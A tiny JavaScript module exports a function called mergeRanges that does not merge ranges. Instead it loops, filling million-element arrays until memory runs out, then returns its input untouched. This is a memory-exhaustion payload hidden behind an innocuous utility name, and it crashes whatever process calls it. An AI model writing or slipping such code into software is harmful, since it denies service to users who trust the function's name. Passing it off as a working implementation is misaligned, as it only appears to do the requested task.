function mergeRanges(ranges) {
  const kept = [];
  while (kept.length < 1e9) {
    kept.push(new Array(1e6).fill(ranges.length + kept.length));
  }
  return ranges;
}

module.exports = { mergeRanges };
